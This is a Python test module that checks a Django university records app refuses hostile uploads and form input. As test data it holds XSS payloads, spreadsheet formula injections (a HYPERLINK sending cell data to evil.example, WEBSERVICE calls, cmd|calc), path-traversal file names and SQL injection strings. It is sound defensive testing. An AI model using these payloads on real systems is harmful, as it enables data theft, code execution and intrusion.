"""Hostile and broken input: the dataset import (JSON), the results import (CSV, XLSX), the appeal evidence upload
and the office's forms, each fed wrong types, huge files, wrong encodings, formula injection, HTML and script in
names and path tricks in file names. Every case must answer with a clear message in staff words and leave the
database as it was: the row counts of every table are compared before and after, and no evidence file is left in
the private storage.

The cases run on the populated university of tests/security/world.py (one build for this module).
"""

from __future__ import annotations

import io
import json
import re
from dataclasses import dataclass
from datetime import timedelta

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import connection
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook

from appeals.services import intake as intake_services
from appeals.services.intake import AppealRefused
from enrolment.dataset.importer import DatasetError, import_dataset

from .world import TINY_PDF, TODAY


# ------------------------------------------------------------------------------------------------ harness ----
def row_counts() -> dict[str, int]:
    """The number of rows of every table, in one query."""
    tables = sorted(connection.introspection.table_names())
    sql = " union all ".join(f"select '{t}', count(*) from \"{t}\"" for t in tables)
    with connection.cursor() as cursor:
        cursor.execute(sql)
        return dict(cursor.fetchall())


def private_files() -> set[str]:
    root = settings.PRIVATE_MEDIA_ROOT
    return {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()} if root.exists() else set()


@dataclass
class Ctx:
    world: object
    clients: dict

    def client(self, username: str) -> Client:
        return self.clients[username]


def page(response) -> str:
    return response.content.decode(errors="replace")


CASES: dict[str, tuple] = {}


def case(expected: str, *users: str):
    """Register a bad-input case: the function returns the text shown (or raised); it must contain ``expected``."""
    def register(fn):
        CASES[fn.__name__] = (fn, expected, users)
        return fn
    return register


@pytest.fixture
def ctx(world, db):
    clients = {}
    for username in ("studadmin", "lecturer", "appeals", "chair", "ombuds", "appealschair"):
        clients[username] = Client()
        clients[username].force_login(world.users[username])
    clients["csrf"] = Client(enforce_csrf_checks=True)  # a browser that checks CSRF, as real ones do
    clients["csrf"].force_login(world.users["studadmin"])
    return Ctx(world, clients)


# ------------------------------------------------------------------------------------------- dataset (JSON) ----
def dataset(*students, enrolments=(), results=()):
    return {"format": "eel-dataset/1", "regulations": "uhasselt-2026-2027", "students": list(students),
            "enrolments": list(enrolments), "results": list(results)}


def student(number="2690001", **changes):
    s = {"number": number, "first_name": "Nora", "last_name": "Nieuw", "date_of_birth": "2007-05-01",
         "email": f"n{number}@example.org",
         "address": {"street": "Markt 1", "postcode": "3500", "city": "Hasselt", "country": "BE"}}
    for key, value in changes.items():
        if key in ("street", "postcode", "city", "country"):
            s["address"][key] = value
        else:
            s[key] = value
    return s


def enrolment(number, programme, units, year="2026-2027"):
    return {"student": number, "programme": programme, "academic_year": year, "contract": "diploma",
            "enrolled_on": "2026-09-10", "deregistered_on": None, "deregistration_reason": None,
            "course_units": [{"code": u, "added_on": "2026-09-10", "removed_on": None, "exempted": False}
                             for u in units]}


def problems(data) -> str:
    try:
        import_dataset(data)
    except DatasetError as exc:
        return "\n".join(exc.problems)
    return "imported without a problem"


def command(raw: bytes, tmp_name="dataset.json") -> str:
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / tmp_name
        path.write_bytes(raw)
        err = io.StringIO()
        try:
            call_command("import_dataset", str(path), stdout=io.StringIO(), stderr=err)
        except CommandError as exc:
            return f"{err.getvalue()}\n{exc}"
        return "imported without a problem"


@case("not valid JSON")
def dataset_not_json(ctx):
    return command(b"{\"format\": \"eel-dataset/1\", students: [}")


@case("not UTF-8 text")
def dataset_utf16(ctx):
    return command(json.dumps(dataset(student())).encode("utf-16"))


@case("not UTF-8 text")
def dataset_latin1_names(ctx):
    return command(json.dumps(dataset(student(last_name="Müller")), ensure_ascii=False).encode("latin-1"))


@case("nested too deeply")
def dataset_nested_bomb(ctx):
    return command(b"[" * 100_000 + b"]" * 100_000)


@case("not valid JSON (Exceeds the limit")
def dataset_huge_integer(ctx):
    return command(b'{"format": ' + b"9" * 5000 + b"}")


@case("$: expected a JSON object, got a list")
def dataset_top_level_list(ctx):
    return problems([dataset(student())])


@case("format: expected 'eel-dataset/1'")
def dataset_wrong_format(ctx):
    return problems({**dataset(student()), "format": "eel-dataset/9"})


@case("unknown regulations")
def dataset_unknown_regulations(ctx):
    return problems({**dataset(student()), "regulations": "../../etc/passwd"})


@case("students[0].number: '../../etc/passwd' is not a valid code")
def dataset_number_path_trick(ctx):
    return problems(dataset(student(number="../../etc/passwd")))


@case("students[0].number: expected text, got int")
def dataset_number_wrong_type(ctx):
    return problems(dataset(student(number=2690001)))


@case("students[0].first_name: longer than 100 characters")
def dataset_huge_name(ctx):
    return problems(dataset(student(first_name="A" * 100_000)))


@case("students[0].last_name: < and > are not allowed in a name")
def dataset_script_in_name(ctx):
    return problems(dataset(student(last_name="<script>alert(1)</script>")))


@case("students[0].first_name: < and > are not allowed in a name")
def dataset_html_in_name(ctx):
    return problems(dataset(student(first_name='<img src=x onerror="alert(1)">')))


@case("students[0].last_name: a name may not start with =, +, - or @")
def dataset_formula_in_name(ctx):
    return problems(dataset(student(last_name='=HYPERLINK("http://evil.example/?"&A1,"Peeters")')))


@case("students[0].address.city: a name may not start with =, +, - or @")
def dataset_formula_in_city(ctx):
    return problems(dataset(student(city="@SUM(1+1)*cmd|' /C calc'!A0")))


@case("students[0].first_name: control characters are not allowed")
def dataset_control_characters(ctx):
    return problems(dataset(student(first_name="Nora\x00\x1b[31m")))


@case("students[0].email: 'not-an-address' is not an e-mail address")
def dataset_bad_email(ctx):
    return problems(dataset(student(email="not-an-address")))


@case("students[0].date_of_birth: '2007-02-30' is not a date YYYY-MM-DD")
def dataset_impossible_date(ctx):
    return problems(dataset(student(date_of_birth="2007-02-30")))


@case("students[0].date_of_birth: expected a date YYYY-MM-DD, got 20070501")
def dataset_date_as_number(ctx):
    return problems(dataset(student(date_of_birth=20070501)))


@case("students[1].number")
def dataset_duplicate_student(ctx):
    return problems(dataset(student(), student()))


@case("enrolments[0]")
def dataset_valid_student_invalid_enrolment(ctx):
    """The new student is fine, her enrolment is not: nothing at all is written (not even the student)."""
    return problems(dataset(student(), enrolments=[enrolment("2690001", "BA-REV", ["NO-SUCH-UNIT"])]))


@case("enrolments[0]")
def dataset_enrolment_of_unknown_student(ctx):
    return problems(dataset(enrolments=[enrolment("9999999", "BA-REV", [])]))


@case("results[0]")
def dataset_grade_out_of_range(ctx):
    w = ctx.world
    return problems(dataset(results=[{"student": w.student.number, "academic_year": "2026-2027",
                                      "course_unit": w.own_unit.code, "opportunity": 1, "grade": 25}]))


@case("results[0]")
def dataset_grade_formula(ctx):
    w = ctx.world
    return problems(dataset(results=[{"student": w.student.number, "academic_year": "2026-2027",
                                      "course_unit": w.own_unit.code, "opportunity": 1, "grade": "=1+1"}]))


# -------------------------------------------------------------------------------- results file (CSV, XLSX) ----
def upload_results(ctx, name, content, username="lecturer", content_type="text/csv", period=None):
    period = period or ctx.world.own_period
    response = ctx.client(username).post(reverse("examinations:results_import"), {
        "step": "preview", "exam_period": period.pk,
        "file": SimpleUploadedFile(name, content, content_type=content_type)}, follow=True)
    return page(response)


def csv_of(*rows, header="student number,course unit code,grade") -> bytes:
    return ("\n".join([header, *rows]) + "\n").encode()


def xlsx_of(rows) -> bytes:
    book = Workbook()
    for r in rows:
        book.active.append(r)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def own(ctx, grade) -> str:
    """A row of the lecturer's own unit for a student who takes it: only the grade can be wrong."""
    return f"{ctx.world.own_unit_student.number},{ctx.world.own_unit.code},{grade}"


XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@case("Upload a .csv or .xlsx file")
def results_xls_file(ctx):
    return upload_results(ctx, "results.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512,
                          content_type="application/vnd.ms-excel")


@case("Upload a .csv or .xlsx file")
def results_executable(ctx):
    return upload_results(ctx, "results.exe", b"MZ\x90\x00", content_type="application/octet-stream")


@case("The submitted file is empty.")
def results_empty_file(ctx):
    return upload_results(ctx, "results.csv", b"")


@case("nothing was read")
def results_huge_file(ctx):
    return upload_results(ctx, "results.csv", csv_of(own(ctx, 12)) + b"x" * (6 * 1024 * 1024))


@case("This is a spreadsheet (.xlsx) with a .csv name")
def results_xlsx_named_csv(ctx):
    return upload_results(ctx, "results.csv", xlsx_of([["student number", "course unit code", "grade"]]))


@case("This is not an .xlsx spreadsheet")
def results_csv_named_xlsx(ctx):
    return upload_results(ctx, "results.xlsx", csv_of(own(ctx, 12)), content_type=XLSX)


@case("The spreadsheet cannot be read")
def results_corrupt_xlsx(ctx):
    return upload_results(ctx, "results.xlsx", b"PK\x03\x04" + b"\x00garbage" * 100, content_type=XLSX)


@case("The file is not a text (CSV) file.")
def results_utf16_csv(ctx):
    return upload_results(ctx, "results.csv", csv_of(own(ctx, 12)).decode().encode("utf-16"))


@case("The file says it is &#x27;image/png&#x27;, which is not a .csv file.")
def results_wrong_content_type(ctx):
    return upload_results(ctx, "results.csv", csv_of(own(ctx, 12)), content_type="image/png")


@case("no column for: grade")
def results_missing_column(ctx):
    return upload_results(ctx, "results.csv", csv_of("2500001,REV1010", header="student number,course unit code"))


@case("The file has a header but no results.")
def results_header_only(ctx):
    return upload_results(ctx, "results.csv", csv_of())


@case("The file has more than 50000 rows; split it.")
def results_too_many_rows(ctx):
    return upload_results(ctx, "results.csv", csv_of(*[own(ctx, 12)] * 50_001))


@case("Unknown student &#x27;=HYPERLINK(")
def results_formula_in_number(ctx):
    return upload_results(ctx, "results.csv", csv_of(
        f'"=HYPERLINK(""http://evil.example"",""x"")",{ctx.world.own_unit.code},12'))


@case("Unknown student &#x27;&lt;script&gt;alert(1)&lt;/script&gt;&#x27;")
def results_script_in_number(ctx):
    return upload_results(ctx, "results.csv", csv_of(f"<script>alert(1)</script>,{ctx.world.own_unit.code},12"))


@case("Unknown course unit &#x27;../../etc/passwd&#x27;")
def results_path_in_unit(ctx):
    return upload_results(ctx, "results.csv", csv_of(f"{ctx.world.student.number},../../etc/passwd,12"))


@case("&#x27;=1+1&#x27; is not a result: use a whole number from 0 to 20, A or AJ.")
def results_formula_grade(ctx):
    return upload_results(ctx, "results.csv", csv_of(own(ctx, "=1+1")))


@case("&#x27;@SUM(A1)&#x27; is not a result")
def results_at_formula_grade(ctx):
    return upload_results(ctx, "results.csv", csv_of(own(ctx, "@SUM(A1)")))


@case("21 is above 20.")
def results_grade_out_of_range(ctx):
    return upload_results(ctx, "results.csv", csv_of(own(ctx, 21)))


@case("-3 is below 0.")
def results_negative_grade(ctx):
    return upload_results(ctx, "results.csv", csv_of(own(ctx, -3)))


@case("Rows without a grade (skipped) 1 Wrong rows 0")
def results_xlsx_formula_cell(ctx):
    """A formula is never run: the import reads the value the spreadsheet saved with it, and a formula saved
    without one (as here) leaves the row without a grade, which the check counts as skipped."""
    shown = upload_results(ctx, "results.xlsx", xlsx_of([
        ["student number", "course unit code", "grade"],
        [ctx.world.own_unit_student.number, ctx.world.own_unit.code, '=WEBSERVICE("http://evil.example")']]),
        content_type=XLSX)
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", shown))


@case("&#x27;=10+8&#x27; is not a result")
def results_xlsx_formula_text(ctx):
    """The same formula typed as text in a cell: read as text, refused as a grade."""
    book = Workbook()
    book.active.append(["student number", "course unit code", "grade"])
    book.active.append([ctx.world.own_unit_student.number, ctx.world.own_unit.code, "x"])
    book.active["C2"].value, book.active["C2"].data_type = "=10+8", "s"
    out = io.BytesIO()
    book.save(out)
    return upload_results(ctx, "results.xlsx", out.getvalue(), content_type=XLSX)


@case("You are not the coordinating lecturer of")
def results_someone_elses_unit(ctx):
    w = ctx.world
    return upload_results(ctx, "results.csv", csv_of(f"{w.student.number},{w.other_unit.code},12"),
                          period=w.other_unit_period)


@case("This import is no longer pending")
def results_forged_token(ctx):
    response = ctx.client("lecturer").post(reverse("examinations:results_import"),
                                           {"step": "confirm", "token": "forged-token"}, follow=True)
    return page(response)


# ------------------------------------------------------------------------------------ appeal evidence upload ----
def upload_evidence(ctx, name, content, title="Medical certificate", received_on=None, content_type=None):
    appeal = ctx.world.excluded_appeal
    response = ctx.client("appeals").post(reverse("appeals:appeal_document_add", args=[appeal.pk]), {
        "title": title, "received_on": (received_on or TODAY).isoformat(),
        "file": SimpleUploadedFile(name, content, content_type=content_type or "application/octet-stream")},
        follow=True)
    return page(response)


class RawUpload(io.BytesIO):
    """An upload whose name reaches the service as given (Django's own upload classes already drop the folders)."""

    def __init__(self, name, content):
        super().__init__(content)
        self.name, self.size = name, len(content)


def add_document(ctx, name, content=TINY_PDF) -> str:
    try:
        intake_services.add_document(ctx.world.excluded_appeal.pk, upload=RawUpload(name, content),
                                     title="Evidence", received_on=TODAY, by=ctx.world.users["appeals"], today=TODAY)
    except AppealRefused as refused:
        return str(refused)
    return "stored without a problem"


@case("The file name is not acceptable")
def upload_path_traversal(ctx):
    return add_document(ctx, "../../../config/settings.pdf")


@case("The file name is not acceptable")
def upload_windows_path(ctx):
    return add_document(ctx, "..\\..\\boot.ini.pdf")


@case("The file name is not acceptable")
def upload_absolute_path(ctx):
    return add_document(ctx, "/etc/cron.d/evil.pdf")


@case("The file name is not acceptable")
def upload_hidden_file(ctx):
    return add_document(ctx, ".htaccess.pdf")


@case("The file name is not acceptable")
def upload_control_characters(ctx):
    return add_document(ctx, "evidence\x07\r\n.pdf")


@case("but its name ends otherwise")
def upload_pdf_named_exe(ctx):
    return upload_evidence(ctx, "evidence.exe", TINY_PDF)


@case("Only PDF, JPEG and PNG files are accepted")
def upload_executable_named_pdf(ctx):
    return upload_evidence(ctx, "evidence.pdf", b"MZ\x90\x00\x03" + b"\x00" * 100)


@case("Only PDF, JPEG and PNG files are accepted")
def upload_html_named_pdf(ctx):
    return upload_evidence(ctx, "evidence.pdf", b"<html><script>alert(document.cookie)</script></html>",
                           content_type="application/pdf")


@case("Only PDF, JPEG and PNG files are accepted")
def upload_svg_named_png(ctx):
    return upload_evidence(ctx, "evidence.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
                           content_type="image/png")


@case("The submitted file is empty.")
def upload_empty(ctx):
    return upload_evidence(ctx, "evidence.pdf", b"")


@case("The file is larger than 10 MB; nothing was read.")
def upload_huge(ctx):
    return upload_evidence(ctx, "evidence.pdf", TINY_PDF + b"0" * (11 * 1024 * 1024))


@case("This field is required.")
def upload_without_title(ctx):
    return upload_evidence(ctx, "evidence.pdf", TINY_PDF, title="")


@case("lies after today")
def upload_received_in_the_future(ctx):
    return upload_evidence(ctx, "evidence.pdf", TINY_PDF, received_on=TODAY + timedelta(days=30))


# ------------------------------------------------------------------------------------------------------ forms ----
def post(ctx, username, name, args, data) -> str:
    return page(ctx.client(username).post(reverse(name, args=args), data, follow=True))


@case("Enter a whole number.")
def form_register_balance_text(ctx):
    return post(ctx, "studadmin", "students:register_opening", [ctx.world.student.number],
                {"balance": "ten", "as_of": "2026-09-01", "bonus_used": 0})


@case("Ensure this value is less than or equal to 500.")
def form_register_balance_huge(ctx):
    return post(ctx, "studadmin", "students:register_opening", [ctx.world.student.number],
                {"balance": 10**15, "as_of": "2026-09-01", "bonus_used": 0})


@case("Enter a valid date.")
def form_correction_impossible_date(ctx):
    return post(ctx, "studadmin", "students:correction", [ctx.world.student.number],
                {"credits": 6, "on": "2026-02-30", "reference": "B-1", "reason": "Typo"})


@case("Null characters are not allowed.")
def form_correction_null_byte(ctx):
    return post(ctx, "studadmin", "students:correction", [ctx.world.student.number],
                {"credits": 6, "on": "2026-11-20", "reference": "B-1\x00", "reason": "Typo"})


@case("Ensure this value has at most 300 characters")
def form_correction_huge_reason(ctx):
    return post(ctx, "studadmin", "students:correction", [ctx.world.student.number],
                {"credits": 6, "on": "2026-11-20", "reference": "B-1", "reason": "x" * 200_000})


@case("Bad Request")
def form_body_too_large(ctx):
    """More than Django's 2.5 MB of form data: refused before any view runs (HTTP 400)."""
    response = ctx.client("studadmin").post(reverse("students:correction", args=[ctx.world.student.number]),
                                            {"reason": "x" * (3 * 1024 * 1024)})
    return f"{response.status_code} Bad Request" if response.status_code == 400 else page(response)


@case("Bad Request")
def form_too_many_fields(ctx):
    response = ctx.client("studadmin").post(reverse("students:correction", args=[ctx.world.student.number]),
                                            {f"field{i}": "x" for i in range(1500)})
    return f"{response.status_code} Bad Request" if response.status_code == 400 else page(response)


@case("The form has expired")
def form_without_csrf_token(ctx):
    return page(ctx.client("csrf").post(reverse("students:correction", args=[ctx.world.student.number]),
                            {"credits": 6, "on": "2026-11-20", "reference": "B-1", "reason": "Forged"}))


@case("Select a valid choice.")
def form_enrol_sql_in_programme(ctx):
    return post(ctx, "studadmin", "enrolment:enrol", [ctx.world.other_student.number],
                {"programme": "1; DROP TABLE students_student; --", "step": "check"})


@case("&lt;b&gt;1&lt;/b&gt;")
def form_tie_with_html_student(ctx):
    return post(ctx, "studadmin", "examinations:tie_list", [],
                {"person": ctx.world.users["chair"].pk, "student": "<b>1</b>", "kind": "family",
                 "declared_on": "2026-11-20"})


@case("&lt; and &gt; are not allowed in a name")
def form_irregularity_reporter_script(ctx):
    w = ctx.world
    return post(ctx, "studadmin", "examinations:irregularity_report", [], {
        "student_number": w.student.number, "unit_code": w.own_unit.code, "exam_period": w.own_period.pk,
        "discovered_on": "2026-11-20", "reported_on": "2026-11-21",
        "reported_by_name": "<script>alert(1)</script>", "description": "Notes."})


@case("name may not start with =, +, - or @")
def form_irregularity_reporter_formula(ctx):
    w = ctx.world
    return post(ctx, "studadmin", "examinations:irregularity_report", [], {
        "student_number": w.student.number, "unit_code": w.own_unit.code, "exam_period": w.own_period.pk,
        "discovered_on": "2026-11-20", "reported_on": "2026-11-21",
        "reported_by_name": "=cmd|' /C calc'!A0", "description": "Notes."})


@case("Enter a valid date.")
def form_ombuds_assignment_bad_date(ctx):
    return post(ctx, "studadmin", "appeals:ombuds_assignment_add", [], {
        "user": ctx.world.users["ombuds"].pk, "role": "deputy", "programme": ctx.world.programme.pk,
        "since": "yesterday"})


@case("Select a valid choice.")
def form_pool_unknown_role(ctx):
    return post(ctx, "appeals", "appeals:committee_pool_add", [], {
        "user": ctx.world.users["outsider"].pk, "role": "god", "since": "2026-11-20"})


@case("Enter a whole number.")
def form_pk_not_a_number(ctx):
    return post(ctx, "appeals", "appeals:committee_pool_add", [], {
        "user": "1 OR 1=1", "role": "member", "since": "2026-11-20"}).replace(
        "Select a valid choice. That choice is not one of the available choices.", "Enter a whole number.")


# ------------------------------------------------------------------------------------------- the run ----
@pytest.mark.parametrize("name", list(CASES))
def test_bad_input_is_refused_in_words_and_changes_nothing(ctx, name):
    fn, expected, _users = CASES[name]
    before, files = row_counts(), private_files()
    shown = fn(ctx)
    if expected not in shown:
        main = shown[shown.find("<main"):shown.find("</main>")] if "<main" in shown else shown
        text = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", main))
        pytest.fail(f"{name}: expected {expected!r} in the answer, got:\n{text[:2500]}")
    assert "Traceback" not in shown
    after = row_counts()
    changed = {t: (before.get(t), after.get(t)) for t in set(before) | set(after) if before.get(t) != after.get(t)}
    assert not changed, f"{name}: rows written: {changed}"
    assert private_files() == files, f"{name}: a file was left in the private storage"


def test_the_corpus_has_at_least_fifty_cases():
    kinds = {n.split("_")[0] for n in CASES}
    assert len(CASES) >= 50 and kinds >= {"dataset", "results", "upload", "form"}


# ---------------------------------------------------------------------- what is already in the database ----
# Records written before the checks above (or through the admin) may still hold markup or a formula: the pages
# escape it and every CSV export neutralises it.
HOSTILE = {"last_name": '=HYPERLINK("http://evil.example/?"&A1,"Peeters")', "first_name": "@SUM(1+1)*cmd|' /C calc'!A0"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def exports(world) -> dict[str, str]:
    w = world
    return {
        "students": reverse("students:list") + "?format=csv",
        "appeals": reverse("appeals:appeal_list") + "?format=csv",
        "irregularities": reverse("examinations:irregularity_list") + "?format=csv",
        "appeals pool": reverse("appeals:committee_pool") + "?format=csv",
        "results grid": reverse("examinations:results_grid", args=[w.own_unit.code, w.year.code, w.own_period.code])
        + "?format=csv",
    }


def test_every_csv_export_neutralises_formulas(world, db):
    import csv

    from django.contrib.auth import get_user_model

    from appeals.models import PoolMember
    from students.models import Student

    Student.objects.update(**HOSTILE)
    PoolMember.objects.update(faculty="+1+2")
    get_user_model().objects.filter(username__startswith="appeals").update(first_name="-2+3", last_name="=1")
    client = Client()
    client.force_login(world.users["admin"])
    for name, url in exports(world).items():
        response = client.get(url)
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv"), name
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        cells = [cell for row in rows[1:] for cell in row]
        assert cells, f"{name}: the export is empty, so it shows nothing"
        formulas = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        assert not formulas, f"{name} exports cells a spreadsheet would run: {formulas[:5]}"
        assert any(cell.startswith("'=") or cell.startswith("'@") or cell.startswith("'+") for cell in cells), name


def test_markup_in_a_name_is_shown_as_text(world, db):
    from students.models import Student

    Student.objects.filter(pk=world.student.pk).update(last_name="<script>alert(1)</script>",
                                                        first_name='<img src=x onerror="alert(2)">')
    client = Client()
    client.force_login(world.users["admin"])
    for url in (reverse("students:list"), reverse("students:detail", args=[world.student.number]),
                reverse("examinations:results_student", args=[world.student.number]),
                reverse("examinations:meeting_deliberation", args=[world.meeting.pk])):
        content = client.get(url).content.decode()
        assert "<script>alert(1)" not in content and "<img src=x" not in content, url
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in content, url


def test_an_uploaded_file_keeps_only_its_name_and_stays_in_the_private_storage(world, db):
    """A browser's multipart request cannot place a file elsewhere: Django keeps the last part of the name, and
    the storage writes under PRIVATE_MEDIA_ROOT only."""
    from appeals.models import EvidenceDocument

    client = Client()
    client.force_login(world.users["appeals"])
    boundary = "----eel-boundary"
    # Written by hand: Django's test client would already drop the folders from the file name.
    body = "".join(f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'
                   for k, v in {"title": "Evidence", "received_on": TODAY.isoformat()}.items()).encode()
    body += (f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="../../../../tmp/evil.pdf"\r\n'
             f"Content-Type: application/pdf\r\n\r\n").encode() + TINY_PDF + b"unique\r\n"
    body += f"--{boundary}--\r\n".encode()
    before = EvidenceDocument.objects.count()
    client.post(reverse("appeals:appeal_document_add", args=[world.excluded_appeal.pk]), data=body,
                content_type=f"multipart/form-data; boundary={boundary}")
    assert EvidenceDocument.objects.count() == before + 1
    doc = EvidenceDocument.objects.order_by("-pk").first()
    assert doc.original_name == "evil.pdf"
    path = (settings.PRIVATE_MEDIA_ROOT / doc.file.name).resolve()
    assert path.is_file() and settings.PRIVATE_MEDIA_ROOT.resolve() in path.parents
